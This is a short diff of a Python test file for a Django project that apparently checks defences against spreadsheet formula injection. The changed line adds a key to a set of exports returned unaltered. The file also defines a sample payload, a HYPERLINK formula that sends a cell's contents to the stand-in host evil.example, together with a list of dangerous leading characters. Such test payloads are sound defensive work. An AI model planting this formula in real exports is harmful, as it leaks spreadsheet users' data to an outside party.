@@ -26,7 +26,7 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 # Given back byte for byte, which is what it is for; only who sent it may take it.
-AS_RECEIVED = {"iom:received", "plans:received"}
+AS_RECEIVED = {"iom:received", "plans:received", "network:original"}
 
 
 @pytest.fixture
